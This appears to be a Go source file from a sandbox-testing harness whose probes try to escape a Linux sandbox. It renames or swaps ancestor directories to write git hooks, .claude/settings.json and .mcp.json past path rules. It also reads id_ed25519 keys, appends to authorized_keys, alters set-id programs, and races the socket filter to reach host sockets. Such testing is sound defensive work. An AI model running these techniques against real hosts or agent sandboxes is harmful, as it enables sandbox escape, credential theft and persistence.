//go:build linux

package main

import (
	"os"
	"path/filepath"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/paddock-sandbox/paddock/attack/protocol"
)

// ancestors returns the directories above p that may be moved, the nearest first. Without a
// sandbox, those are only the ones of this case.
func ancestors(b *protocol.Brief, p string) []string {
	var out []string
	for d := filepath.Dir(p); d != "/"; d = filepath.Dir(d) {
		if b.Unconfined && !strings.HasPrefix(d, filepath.Dir(b.Home)+"/") {
			break
		}
		out = append(out, d)
	}
	return out
}

// A mover renames a directory. It returns the new name, and a function that restores the
// old one.
type mover struct {
	name string
	run  func(dir string) (to string, back func() error, err error)
}

func movers() []mover {
	rename := func(to func(dir string) string) func(string) (string, func() error, error) {
		return func(dir string) (string, func() error, error) {
			t := to(dir)
			return t, func() error { return unix.Rename(t, dir) }, unix.Rename(dir, t)
		}
	}
	exchange := func(mine func(dir string) string, theirsFirst bool) func(string) (string, func() error, error) {
		return func(dir string) (string, func() error, error) {
			m := mine(dir)
			if err := os.Mkdir(m, 0o755); err != nil {
				return "", nil, err
			}
			swap := func() error {
				if theirsFirst {
					return unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, m, unix.RENAME_EXCHANGE)
				}
				return unix.Renameat2(unix.AT_FDCWD, m, unix.AT_FDCWD, dir, unix.RENAME_EXCHANGE)
			}
			if err := swap(); err != nil {
				_ = os.Remove(m)
				return "", nil, err
			}
			return m, func() error {
				if err := swap(); err != nil {
					return err
				}
				return os.Remove(m)
			}, nil
		}
	}
	beside := func(dir string) string { return dir + "-moved" }
	top := func(dir string) string {
		return filepath.Join("/", strings.SplitN(dir, "/", 3)[1], filepath.Base(dir)+"-top")
	}
	return []mover{
		{"rename", rename(beside)},
		{"rename to the top", rename(top)},
		{"exchange", exchange(beside, false)},
		{"exchange the other way", exchange(beside, true)},
	}
}

// fromBelow moves each directory above p in every way, and calls f with the new names of
// the directory and of p.
func fromBelow(b *protocol.Brief, p string, m mover, f func(dir, p string) protocol.Try) protocol.Try {
	return each(ancestors(b, p), func(dir string) protocol.Try {
		to, back, err := m.run(dir)
		if err != nil {
			return refused(err)
		}
		t := f(to, to+strings.TrimPrefix(p, dir))
		if err := back(); err != nil {
			return reached("%s was moved to %s and cannot come back: %v", dir, to, err)
		}
		if t.Outcome == protocol.Denied {
			return inside("%s can be moved, and is protected there too: %s", dir, t.Detail)
		}
		return t
	})
}

// moveMount is C10: rules name paths, and the mount gets another path.
func moveMount() []probe {
	var ps []probe
	for _, m := range movers() {
		for _, rel := range []string{".git/hooks/pre-commit", ".git/hooks/post-checkout", ".git/config", ".claude/settings.json", ".mcp.json"} {
			ps = append(ps, probe{m.name + " and write " + rel, func(b *protocol.Brief) protocol.Try {
				return fromBelow(b, b.Target, m, func(_, p string) protocol.Try {
					file := filepath.Join(p, rel)
					_ = os.MkdirAll(filepath.Dir(file), 0o755)
					before := state(file)
					err := write(unix.Open(file, creat|unix.O_APPEND, 0o755))
					if state(file) != before {
						return reached("wrote %s", file)
					}
					return refusedOr(err)
				})
			}})
		}
		ps = append(ps, probe{m.name + " and connect", func(b *protocol.Brief) protocol.Try {
			return fromBelow(b, b.Canary.InWork, m, func(_, p string) protocol.Try { return connectUnix(unix.SOCK_STREAM, p) })
		}})
	}
	return append(ps, probe{"the mount itself", func(b *protocol.Brief) protocol.Try {
		if err := unix.Rename(b.Target, b.Target+"-moved"); err != nil {
			return refused(err)
		}
		if err := unix.Rename(b.Target+"-moved", b.Target); err != nil {
			return reached("moved it, and it cannot come back: %v", err)
		}
		return reached("moved %s", b.Target)
	}})
}

// nextSandbox is A24: what the next sandbox is made of lies below a writable mount.
func nextSandbox() []probe {
	var ps []probe
	for i, what := range []string{"cache", "state", "program"} {
		own := func(b *protocol.Brief) string { return b.Own[i] }
		ps = append(ps,
			probe{what + ": file", func(b *protocol.Brief) protocol.Try { return throughAll(b, own(b)) }},
			probe{what + ": new file", func(b *protocol.Brief) protocol.Try {
				if what == "program" {
					return absent("only the program itself is kept, not what lies beside it")
				}
				return throughAll(b, filepath.Join(filepath.Dir(own(b)), b.Marker+"-new"))
			}},
			probe{what + ": chmod of the directory", func(b *protocol.Brief) protocol.Try {
				if what == "program" {
					return absent("only the program itself is kept, not what lies beside it")
				}
				dir := filepath.Dir(own(b))
				before := state(dir)
				err := unix.Chmod(dir, 0o777)
				if state(dir) != before {
					return reached("changed the mode of %s", dir)
				}
				return refusedOr(err)
			}})
		for _, m := range movers() {
			ps = append(ps, probe{what + ": " + m.name + " an ancestor", func(b *protocol.Brief) protocol.Try {
				return fromBelow(b, own(b), m, func(dir, p string) protocol.Try {
					if ownOnly(dir, p) {
						return throughAll(b, p)
					}
					return reached("%s is %s now", own(b), p)
				})
			}})
		}
	}
	return ps
}

// ownOnly reports whether a directory above p is on another file system than the last
// visible directory on the way to p. Then it belongs to the sandbox, and its place has no
// meaning on the host.
func ownOnly(dir, p string) bool {
	var above, at unix.Stat_t
	if unix.Lstat(dir, &above) != nil {
		return false
	}
	for ; len(p) > len(dir); p = filepath.Dir(p) {
		if unix.Lstat(p, &at) == nil && at.Mode&unix.S_IFMT == unix.S_IFDIR {
			return at.Dev != above.Dev
		}
	}
	return false
}

// gitDirectory is C11: the git directory is a separate mount.
func gitDirectory() []probe {
	var ps []probe
	for _, rel := range []string{"hooks/pre-commit", "hooks/post-checkout", "config", "config.worktree", "info/attributes", "modules/sub/config", "modules/sub/hooks/post-checkout", "worktrees/wt/commondir"} {
		ps = append(ps, probe{rel, func(b *protocol.Brief) protocol.Try { return throughAll(b, filepath.Join(b.Target, rel)) }})
	}
	for _, rel := range []string{"hooks", "info", "modules/sub/hooks", "modules/sub", "modules"} {
		ps = append(ps, probe{"rename " + rel, func(b *protocol.Brief) protocol.Try {
			dir := filepath.Join(b.Target, rel)
			if b.Unconfined {
				_ = os.MkdirAll(dir, 0o755)
			}
			if err := unix.Rename(dir, dir+"-aside"); err != nil {
				return refused(err)
			}
			if err := unix.Rename(dir+"-aside", dir); err != nil {
				return reached("moved %s, and it cannot come back: %v", rel, err)
			}
			if rel == "info" {
				return inside("moved %s", rel)
			}
			return reached("moved %s", rel)
		}})
	}
	return ps
}

// linkedSource is A25: the target of a mount's source.
func linkedSource() []probe {
	return []probe{
		{"read", func(b *protocol.Brief) protocol.Try { return readName(b.Target + "/id_ed25519") }},
		{"write", func(b *protocol.Brief) protocol.Try {
			p := b.Target + "/authorized_keys"
			if _, err := os.Lstat(p); err != nil {
				return refused(err)
			}
			return done(write(unix.Open(p, unix.O_WRONLY|unix.O_APPEND, 0)), "wrote")
		}},
	}
}

// setIDContent is A26: the content of an existing set-id program.
func setIDContent() []probe {
	var ps []probe
	for n, w := range ways() {
		switch w.name {
		case "open O_CREAT", "open O_TRUNC", "open O_APPEND", "open O_RDWR", "open O_RDONLY|O_TRUNC", "openat dirfd", "openat2", "truncate",
			"reopen /proc/self/fd", "reopen O_PATH", "hard link and write", "mmap shared", "/proc/self/root", "dangling link":
			ps = append(ps, probe{w.name, func(b *protocol.Brief) protocol.Try {
				// One for each way, because a spoiled one is no longer set-id.
				p := filepath.Join(b.Prepared, itoa(n))
				if b.Unconfined {
					_ = os.Chmod(p, 0o755|os.ModeSetuid)
				}
				info, err := os.Lstat(p)
				if err != nil || info.Mode()&os.ModeSetuid == 0 {
					return protocol.Try{Outcome: "broken", Detail: p + " is no set-id program"}
				}
				before, _ := os.ReadFile(p)
				err = w.run(b, p)
				after, _ := os.ReadFile(p)
				if string(before) == string(after) {
					return refusedOr(err)
				}
				if info, err = os.Lstat(p); err != nil || info.Mode()&os.ModeSetuid == 0 {
					return inside("it was changed, and is no set-id program any more")
				}
				return reached("%s changed a set-id program", w.name)
			}})
		}
	}
	return ps
}

// shownSocket is P31: a socket of the host in a read-only directory.
func shownSocket() []probe {
	socket := func(b *protocol.Brief) string { return b.Target }
	try := func(f func(b *protocol.Brief, p string) protocol.Try) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			if _, err := os.Lstat(socket(b)); err != nil {
				return protocol.Try{Outcome: "broken", Detail: "the socket is not shown: " + err.Error()}
			}
			return f(b, socket(b))
		}
	}
	return []probe{
		{"connect", try(func(_ *protocol.Brief, p string) protocol.Try { return connectUnix(unix.SOCK_STREAM, p) })},
		{"connect as seqpacket", try(func(_ *protocol.Brief, p string) protocol.Try { return connectUnix(unix.SOCK_SEQPACKET, p) })},
		{"connect relatively", try(func(_ *protocol.Brief, p string) protocol.Try {
			if err := unix.Chdir(filepath.Dir(p)); err != nil {
				return refused(err)
			}
			return connectUnix(unix.SOCK_STREAM, filepath.Base(p))
		})},
		{"connect through a link", try(func(b *protocol.Brief, p string) protocol.Try {
			l := b.Work + "/shown-link"
			_ = os.Remove(l)
			if err := unix.Symlink(p, l); err != nil {
				return refused(err)
			}
			return connectUnix(unix.SOCK_STREAM, l)
		})},
		{"connect through /proc/self/root", try(func(_ *protocol.Brief, p string) protocol.Try {
			return connectUnix(unix.SOCK_STREAM, "/proc/self/root"+p)
		})},
		{"connect through a descriptor", try(func(_ *protocol.Brief, p string) protocol.Try {
			fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			return connectUnix(unix.SOCK_STREAM, "/proc/self/fd/"+itoa(fd))
		})},
		{"hard link and connect", try(func(b *protocol.Brief, p string) protocol.Try {
			l := b.Work + "/shown-hard"
			_ = os.Remove(l)
			if err := unix.Link(p, l); err != nil {
				return refused(err)
			}
			defer unix.Unlink(l)
			return connectUnix(unix.SOCK_STREAM, l)
		})},
	}
}

// sharedNetwork is P32: with the host's network, abstract names are shared.
func sharedNetwork() []probe {
	bind := func(typ int) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			fd, err := unix.Socket(unix.AF_UNIX, typ|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			return done(unix.Bind(fd, &unix.SockaddrUnix{Name: "@" + b.Marker + "-planted"}), "took an abstract name of the host")
		}
	}
	return []probe{
		{"connect", func(b *protocol.Brief) protocol.Try { return connectUnix(unix.SOCK_STREAM, "@"+b.Canary.Abstract) }},
		{"connect a datagram socket", func(b *protocol.Brief) protocol.Try { return connectUnix(unix.SOCK_DGRAM, "@"+b.Canary.Abstract+"-d") }},
		{"connect past the filter's first look", func(b *protocol.Brief) protocol.Try {
			// The address changes while it is read.
			fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			raw := unix.RawSockaddrUnix{Family: unix.AF_UNIX}
			for i, c := range []byte(b.Canary.Abstract) {
				raw.Path[i+1] = int8(c)
			}
			size := uintptr(3 + len(b.Canary.Abstract))
			f := newFlip(func(i int) { raw.Path[0] = int8(i % 2 * 'x') })
			defer f.end()
			var last error
			for range 4000 {
				_, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&raw)), size)
				if e == 0 || e == unix.EISCONN {
					return reached("connected")
				}
				last = e
			}
			return refused(last)
		}},
		{"bind", bind(unix.SOCK_STREAM)},
		{"bind as seqpacket", bind(unix.SOCK_SEQPACKET)},
		{"bind a name of the kernel's choice", func(*protocol.Brief) protocol.Try {
			fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			family := [2]byte{unix.AF_UNIX, 0}
			if err := try0(unix.Syscall(unix.SYS_BIND, uintptr(fd), uintptr(unsafe.Pointer(&family)), 2)); err != nil {
				return refused(err)
			}
			return inside("bound a random name, which collides with nobody's")
		}},
	}
}
